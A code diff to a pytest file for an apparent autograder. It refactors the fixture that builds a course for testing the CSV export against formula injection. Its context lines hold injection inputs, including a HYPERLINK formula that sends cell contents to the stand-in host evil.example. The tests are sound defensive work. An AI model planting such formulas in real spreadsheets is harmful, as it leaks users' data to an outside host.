@@ -10,12 +10,11 @@ from io import StringIO
 import pytest
 from rich.console import Console
 
-from autograder import build
 from autograder.demo import make_class
 from autograder.exports import export
 from autograder.grading.run import grade
 from autograder.tables.spreadsheet import FORMULA
-from autograder.tests.checkout import copy_of_the_repository
+from autograder.tests.checkout import built_course
 from autograder.tests.intake.test_intake import make_zip
 
 NAMES = ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\uff1d1+1")
@@ -26,8 +25,7 @@ TEXT = '=HYPERLINK("http://evil.example?"&A1)'
 def table(tmp_path_factory) -> tuple[str, list[list[str]]]:
     """The CSV of a class of such hand-ins, as text and as cells."""
     folder = tmp_path_factory.mktemp("formulas")
-    course = copy_of_the_repository(folder / "course")
-    build.build(course)
+    course = built_course(folder / "course")
     arrivals = folder / "arrivals"
     arrivals.mkdir()
     right = next(made.path for made in make_class(course, folder / "made") if made.student.startswith("s02"))
